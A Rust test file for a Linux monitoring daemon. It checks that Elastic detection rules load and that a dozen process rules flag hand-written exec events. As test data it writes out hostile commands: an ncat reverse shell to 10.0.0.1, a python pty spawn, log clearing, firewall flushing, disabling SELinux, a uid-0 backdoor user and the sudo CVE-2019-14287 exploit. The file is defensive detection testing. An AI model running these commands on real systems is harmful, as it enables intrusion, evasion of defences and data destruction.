//! Elastic's Linux detection rules, as the monitor's public API sees them:
//! every file loads or says why it is skipped, and a dozen process rules
//! match the exec events they are written for and not their near misses.
//!
//! The rules are the snapshot in `shared/detection-rules/linux`; the events
//! are written by hand in the shape of the daemon's exec events (see
//! `monitor::ecs`), with `process.parent` filled in where a rule reads it
//! (the daemon does not fill it yet).

use std::collections::BTreeMap;

use std::sync::OnceLock;

use monitor::reference_data;
use monitor::rules::{Rule, RuleSet, load_dir};
use serde_json::{Value, json};

/// The loaded rules, shared by the tests.
fn rules() -> &'static RuleSet {
    static RULES: OnceLock<RuleSet> = OnceLock::new();
    RULES.get_or_init(|| {
        RuleSet::new(load_dir(&reference_data::dir(reference_data::LINUX_RULES)).loaded)
    })
}

fn rule(rule_id: &str) -> &'static Rule {
    let found = rules().rules().iter().find(|rule| rule.rule_id == rule_id);
    found.unwrap_or_else(|| panic!("rule {rule_id} is not loaded"))
}

/// An exec event as the daemon writes it, by user `uid`; `process.name` is
/// the file name of `executable`, `process.args` is `argv`.
fn exec(executable: &str, argv: &[&str], uid: u32) -> Value {
    let name = executable.rsplit('/').next().unwrap_or(executable);
    json!({
        "@timestamp": "2025-03-20T12:00:00.000000000Z",
        "event": {
            "kind": "event",
            "category": ["process"],
            "type": ["start"],
            "action": "exec",
            "module": "monitor",
            "dataset": "monitor.process",
        },
        "host": {"name": "h1", "os": {"type": "linux", "family": "debian"}},
        "process": {
            "pid": 4242,
            "name": name,
            "executable": executable,
            "args": argv,
            "args_count": argv.len(),
            "command_line": argv.join(" "),
            "parent": {"pid": 4000},
            "thread": {"id": 4242, "name": name},
            "user": {"id": uid.to_string()},
            "real_user": {"id": uid.to_string()},
        },
        "user": {"id": uid.to_string()},
    })
}

/// `event` with a parent process of that name and argv.
fn parent(mut event: Value, executable: &str, argv: &[&str]) -> Value {
    let name = executable.rsplit('/').next().unwrap_or(executable);
    event["process"]["parent"] = json!({
        "pid": 4000,
        "name": name,
        "executable": executable,
        "args": argv,
        "args_count": argv.len(),
    });
    event
}

fn bash_child(executable: &str, argv: &[&str]) -> Value {
    parent(exec(executable, argv, 1000), "/usr/bin/bash", &["bash"])
}

#[test]
fn every_linux_rule_loads_or_is_skipped_with_a_reason() {
    let report = load_dir(&reference_data::dir(reference_data::LINUX_RULES));
    let failed: Vec<String> = report.failed.iter().map(ToString::to_string).collect();
    assert!(failed.is_empty(), "{failed:#?}");
    assert_eq!(report.total(), 363);
    assert_eq!(report.loaded.len(), 222);
    for rule in &report.loaded {
        assert_eq!(
            (rule.rule_type.as_str(), rule.language.as_str()),
            ("eql", "eql")
        );
        assert!(rule.query.category().is_some() || rule.query_text.contains("any where"));
    }

    let mut reasons = BTreeMap::<String, usize>::new();
    for skipped in &report.skipped {
        assert!(!skipped.rule_id.is_empty(), "{skipped:?}");
        *reasons.entry(skipped.reason.to_string()).or_default() += 1;
    }
    let expected = BTreeMap::from([
        ("esql rules (esql) are not supported".to_string(), 8),
        ("new_terms rules (kuery) are not supported".to_string(), 49),
        ("query rules (kuery) are not supported".to_string(), 16),
        ("sample queries are not supported".to_string(), 3),
        ("sequence queries are not supported".to_string(), 62),
        ("threshold rules (kuery) are not supported".to_string(), 3),
    ]);
    assert_eq!(reasons, expected);
}

/// One rule, events it must match, and events it must not.
struct Case {
    rule_id: &'static str,
    hits: Vec<Value>,
    misses: Vec<Value>,
}

fn cases() -> Vec<Case> {
    let root = |executable: &str, argv: &[&str]| exec(executable, argv, 0);
    let user = |executable: &str, argv: &[&str]| exec(executable, argv, 1000);
    let python_pty = ["python3", "-c", "import pty; pty.spawn('/bin/bash')"];
    vec![
        // Attempt to Clear Kernel Ring Buffer.
        Case {
            rule_id: "2724808c-ba5d-48b2-86d2-0002103df753",
            hits: ["-c", "-C", "--clear", "--read-clear"]
                .map(|flag| root("/usr/bin/dmesg", &["dmesg", flag]))
                .into(),
            misses: vec![
                user("/usr/bin/dmesg", &["dmesg", "-T"]),
                user("/usr/bin/journalctl", &["journalctl", "-c"]),
            ],
        },
        // Attempt to Clear Logs via Journalctl.
        Case {
            rule_id: "09073bf4-a8ea-4bce-9fd5-2bb56b4d31f4",
            hits: vec![root(
                "/usr/bin/journalctl",
                &["journalctl", "--vacuum-time=1s"],
            )],
            misses: vec![
                root("/usr/bin/journalctl", &["journalctl", "-u", "ssh"]),
                parent(
                    root("/usr/bin/journalctl", &["journalctl", "--vacuum-size=1G"]),
                    "/usr/bin/sh",
                    &["/bin/sh", "/etc/cron.daily/clean-journal-logs"],
                ),
            ],
        },
        // Sudo Command Enumeration Detected.
        Case {
            rule_id: "28d39238-0c01-420a-b77a-24e5a7378663",
            hits: vec![bash_child("/usr/bin/sudo", &["sudo", "-l"])],
            misses: vec![
                bash_child("/usr/bin/sudo", &["sudo", "-l", "-U", "bob"]),
                parent(
                    user("/usr/bin/sudo", &["sudo", "-l"]),
                    "/usr/bin/python3",
                    &[],
                ),
            ],
        },
        // Interactive Terminal Spawned via Python.
        Case {
            rule_id: "d76b02ef-fc95-4001-9297-01cb7412232f",
            hits: vec![parent(
                user("/usr/bin/bash", &["/bin/bash"]),
                "/usr/bin/python3",
                &python_pty,
            )],
            misses: vec![
                parent(
                    user("/usr/bin/bash", &["bash"]),
                    "/usr/bin/python3",
                    &["python3", "x.py"],
                ),
                user("/usr/bin/python3", &python_pty),
            ],
        },
        // Attempt to Disable IPTables or Firewall.
        Case {
            rule_id: "83e9c2b3-24ef-4c1d-a8cd-5ebafb5dfa2f",
            hits: vec![
                root("/usr/sbin/iptables", &["iptables", "-F"]),
                root("/usr/bin/systemctl", &["systemctl", "stop", "firewalld"]),
            ],
            misses: vec![
                root("/usr/sbin/iptables", &["iptables", "-F", "INPUT"]),
                root("/usr/bin/systemctl", &["systemctl", "stop", "nginx"]),
            ],
        },
        // Kernel Module Removal.
        Case {
            rule_id: "cd66a5af-e34b-4bb0-8931-57d0a043f2ef",
            hits: vec![
                parent(
                    root("/usr/sbin/rmmod", &["rmmod", "nf_tables"]),
                    "/usr/bin/sudo",
                    &[],
                ),
                bash_child("/usr/sbin/modprobe", &["modprobe", "-r", "nf_tables"]),
            ],
            misses: vec![
                bash_child("/usr/sbin/modprobe", &["modprobe", "nf_tables"]),
                root("/usr/sbin/rmmod", &["rmmod", "nf_tables"]),
            ],
        },
        // Potential Linux Backdoor User Account Creation.
        Case {
            rule_id: "494ebba4-ecb7-4be4-8c6f-654c686549ad",
            hits: vec![root(
                "/usr/sbin/usermod",
                &["usermod", "-o", "-u", "0", "eve"],
            )],
            misses: vec![root("/usr/sbin/usermod", &["usermod", "-u", "0", "eve"])],
        },
        // Potential Sudo Privilege Escalation via CVE-2019-14287.
        Case {
            rule_id: "8af5b42f-8d74-48c8-a8d0-6d14b4197288",
            hits: vec![user("/usr/bin/sudo", &["sudo", "-u#-1", "/bin/bash"])],
            misses: vec![user("/usr/bin/sudo", &["sudo", "-u", "root", "id"])],
        },
        // Potential Disabling of SELinux.
        Case {
            rule_id: "eb9eb8ba-a983-41d9-9c93-a1c05112ca5e",
            hits: vec![root("/usr/sbin/setenforce", &["setenforce", "0"])],
            misses: vec![root("/usr/sbin/setenforce", &["setenforce", "1"])],
        },
        // File Transfer or Listener Established via Netcat.
        Case {
            rule_id: "adb961e0-cb74-42a0-af9e-29fc41f88f5f",
            hits: vec![
                user("/usr/bin/nc", &["nc", "-lvp", "4444"]),
                user(
                    "/usr/bin/ncat",
                    &["ncat", "10.0.0.1", "4444", "-E", "/bin/sh"],
                ),
            ],
            misses: vec![user("/usr/bin/nc", &["nc", "example.org", "80"])],
        },
        // File Deletion via Shred.
        Case {
            rule_id: "a1329140-8de3-4445-9f87-908fb6d824f4",
            hits: vec![
                user("/usr/bin/shred", &["shred", "-fuz", "notes.txt"]),
                user("/usr/bin/shred", &["shred", "--remove", "notes.txt"]),
            ],
            misses: vec![
                user("/usr/bin/shred", &["shred", "-n", "3", "notes.txt"]),
                parent(
                    user("/usr/bin/shred", &["shred", "-u", "old.log"]),
                    "/usr/sbin/logrotate",
                    &["logrotate"],
                ),
            ],
        },
        // SUID/SGUID Enumeration Detected.
        Case {
            rule_id: "5b06a27f-ad72-4499-91db-0c69667bffa5",
            hits: vec![user(
                "/usr/bin/find",
                &["find", "/", "-perm", "-4000", "-type", "f"],
            )],
            misses: vec![
                user("/usr/bin/find", &["find", "/", "-name", "-4000"]),
                user("/usr/bin/find", &["find", "/", "-perm", "-0644"]),
            ],
        },
    ]
}

#[test]
fn a_dozen_process_rules_match_what_they_are_written_for() {
    let cases = cases();
    assert_eq!(cases.len(), 12);
    for case in &cases {
        let rule = rule(case.rule_id);
        assert_eq!(rule.query.category(), Some("process"), "{}", rule.name);
        for (event, expected) in case
            .hits
            .iter()
            .map(|e| (e, true))
            .chain(case.misses.iter().map(|e| (e, false)))
        {
            let argv = &event["process"]["args"];
            let what = format!("{} ({}) on {argv}", rule.name, rule.rule_id);
            assert_eq!(rule.query.matches(event), expected, "{what}");
            let in_set = rules().matching(event).any(|r| r.rule_id == case.rule_id);
            assert_eq!(in_set, expected, "rule set: {what}");
        }
    }
}

#[test]
fn routine_commands_raise_nothing_from_the_dozen() {
    let ids: Vec<&str> = cases().iter().map(|case| case.rule_id).collect();
    for argv in [
        &["ls", "-la"][..],
        &["git", "status"],
        &["ps", "aux"],
        &["cat", "/etc/os-release"],
    ] {
        let event = bash_child(&format!("/usr/bin/{}", argv[0]), argv);
        let hits: Vec<&str> = rules()
            .matching(&event)
            .map(|rule| rule.rule_id.as_str())
            .filter(|id| ids.contains(id))
            .collect();
        assert!(hits.is_empty(), "{argv:?}: {hits:?}");
    }
}

#[test]
fn the_daemon_knows_which_event_actions_the_rules_can_match() {
    // Fork and end events are only built when some rule may match them;
    // Elastic's process rules are written for exec events.
    let set = rules();
    assert!(set.may_match_action("exec"));
    assert!(set.may_match_action("EXEC"), "compared case-insensitively");
    let unpinned = set
        .rules()
        .iter()
        .filter(|r| matches!(r.query.category(), None | Some("process")))
        .filter(|r| r.query.pinned_values("event.action").is_none())
        .count();
    eprintln!(
        "{unpinned} process rules do not pin event.action; fork events built: {}, end events built: {}",
        set.may_match_action("fork"),
        set.may_match_action("end")
    );
    assert_eq!(
        set.may_match_action("fork"),
        unpinned > 0 || pins(set, "fork")
    );
    let builtin = monitor::rules::builtin();
    assert!(builtin.may_match_action("exec"));
    assert!(!builtin.may_match_action("fork") && !builtin.may_match_action("end"));
    assert!(!builtin.may_match_action("already_running"));
}

fn pins(set: &RuleSet, action: &str) -> bool {
    set.rules().iter().any(|r| {
        r.query
            .pinned_values("event.action")
            .is_some_and(|values| values.iter().any(|v| v.eq_ignore_ascii_case(action)))
    })
}
